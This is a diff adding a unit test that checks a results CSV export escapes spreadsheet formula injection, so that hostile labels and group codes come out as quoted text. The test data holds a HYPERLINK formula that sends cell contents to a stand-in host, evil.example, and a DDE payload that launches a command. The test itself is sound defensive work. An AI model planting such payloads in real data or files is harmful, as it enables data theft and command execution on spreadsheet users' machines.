@@ -211,3 +211,35 @@ def test_groups_show_words_and_the_csv_keeps_each_code_beside_its_label(reader):
     assert rows[("school_enrollment.school_id", "255901001")] == "Grand Bend High School"
     assert rows[("person_demographics.english_learner", "false")] == "Not an English learner"
     assert rows[("overall", "all")] == "Everyone"
+
+
+def test_formula_labels_and_groups_reach_the_results_csv_as_text(reader):
+    """A school named by a partner's file and a group code a spreadsheet would run are quoted;
+    the figures, a negative change included, stay numbers."""
+    from backbone.indicators.models import ComputeRun, Indicator, Result
+    from backbone.intake.models import CodeName, Submission
+    from backbone.partnership.models import Partner
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    district = Partner.objects.create(slug="gb", name="GB ISD", partner_type="school_district")
+    submission = Submission.objects.create(
+        partner=district, contract="edfi", original_name="gb.zip", sha256="1" * 64, size=1,
+        archive_path="gb.zip", status=Submission.Status.LOADED,
+    )  # fmt: skip
+    CodeName.objects.create(submission=submission, column="school_id", code="1", name=formula)
+    indicator = Indicator.objects.create(
+        slug="formulas", name="Formulas", unit="count", definition={"slug": "formulas"}
+    )
+    run = ComputeRun.objects.create(indicators=1, results=3)
+    rows = [("overall", "all", -40.0), ("school_enrollment.school_id", "1", 30.0),
+            ("program", "@SUM(1+9)*cmd|' /C calc'!A0", 30.0)]  # fmt: skip
+    Result.objects.bulk_create(
+        Result(run=run, indicator=indicator, definition_version=1, period="2024", dimension=dim,
+               group_value=g, numerator=60, denominator=120, value=v)
+        for dim, g, v in rows
+    )  # fmt: skip
+    exported = reader.get("/indicators/formulas/results.csv").content.decode("utf-8-sig")
+    found = {(r[1], r[2]): r for r in list(csv.reader(io.StringIO(exported)))[1:]}
+    assert found[("school_enrollment.school_id", "1")][3] == "'" + formula
+    assert found[("program", "'@SUM(1+9)*cmd|' /C calc'!A0")][2].startswith("'@")
+    assert found[("overall", "all")][6] == "-40.0"
